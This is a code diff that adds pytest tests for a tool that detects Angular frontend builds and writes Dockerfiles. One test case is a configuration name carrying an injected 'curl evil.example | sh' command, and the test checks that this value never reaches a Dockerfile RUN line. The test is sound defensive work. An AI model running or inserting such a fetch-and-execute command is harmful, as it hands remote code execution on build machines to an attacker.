@@ -5,6 +5,9 @@ from __future__ import annotations
 import json
 from datetime import date
 
+import pytest
+
+from generator.core import generate
 from generator.detect import detect_path
 from generator.detect.node_toolchain import node_eol_warning
 
@@ -435,6 +438,83 @@ def test_angular_build_configuration_overrides_the_output_path(make_tree):
     (fe,) = detect_path(root).frontends
     assert fe.outputs == ("src/documents/static/frontend",)
     assert any(e.file == "src-ui/angular.json" and e.line == 17 for e in fe.evidence)
+
+
+def _angular_with_production_output(default_configuration: str | None) -> dict:
+    build: dict = {
+        "builder": "@angular/build:application",
+        "options": {"outputPath": {"base": "dist/ui", "browser": ""}},
+        "configurations": {
+            "production": {
+                "outputPath": {"base": "../src/documents/static/frontend/", "browser": ""}
+            },
+            "development": {"optimization": False},
+        },
+    }
+    if default_configuration is not None:
+        build["defaultConfiguration"] = default_configuration
+    return {"projects": {"ui": {"projectType": "application", "architect": {"build": build}}}}
+
+
+@pytest.mark.parametrize(
+    ("manager_files", "command"),
+    [
+        ({"src-ui/package-lock.json": "{}"}, "npm run build -- --configuration production"),
+        (
+            {"src-ui/pnpm-lock.yaml": "lockfileVersion: '9.0'\n"},
+            "pnpm run build --configuration production",
+        ),
+    ],
+)
+def test_angular_default_build_unserved_but_a_configuration_is_served(
+    make_tree, manager_files: dict[str, str], command: str
+):
+    """paperless-ngx as shipped: `"build": "ng build"` with an empty defaultConfiguration writes
+    dist/, which nothing serves; the production configuration writes into an app's static/ (their
+    own Dockerfile runs `ng build --configuration production`). The build is kept with that
+    configuration, and the Dockerfile passes it on the way each manager takes arguments."""
+    root = make_tree(
+        {
+            **django(subdir="src", apps=("documents",)),
+            "src/documents/__init__.py": "",
+            "src-ui/package.json": package({"build": "ng build"}),
+            "src-ui/angular.json": json.dumps(_angular_with_production_output(""), indent=2),
+            **manager_files,
+        }
+    )
+    (fe,) = detect_path(root).frontends
+    assert fe.build_args == ("--configuration", "production")
+    assert fe.outputs == ("src/documents/static/frontend",)
+    assert "configuration 'production' writes src/documents/static/frontend" in fe.served_by
+    dockerfile = next(iter(generate(root).files.values()))
+    assert f"RUN {command}" in dockerfile or f"&& {command}" in dockerfile, dockerfile
+
+
+@pytest.mark.parametrize(
+    ("script", "default_configuration", "configuration"),
+    [
+        ("ng build && node copy.js", "", "production"),  # arguments would reach `node copy.js`
+        ("ng build", "development", "production"),  # a configuration is already chosen
+        ("ng build", "", "prod; curl evil.example | sh"),  # not a name to put on a RUN line
+    ],
+)
+def test_angular_configuration_is_not_chosen_when_arguments_cannot_reach_it_safely(
+    make_tree, script: str, default_configuration: str, configuration: str
+):
+    angular = _angular_with_production_output(default_configuration)
+    build = angular["projects"]["ui"]["architect"]["build"]
+    build["configurations"] = {configuration: build["configurations"]["production"]}
+    root = make_tree(
+        {
+            **django(subdir="src", apps=("documents",)),
+            "src/documents/__init__.py": "",
+            "src-ui/package.json": package({"build": script}),
+            "src-ui/angular.json": json.dumps(angular),
+        }
+    )
+    facts = detect_path(root)
+    assert facts.frontends == ()
+    assert any("nothing serves" in e.why for e in facts.evidence if e.fact == "frontend")
 
 
 def test_django_tailwind_theme_app(make_tree):
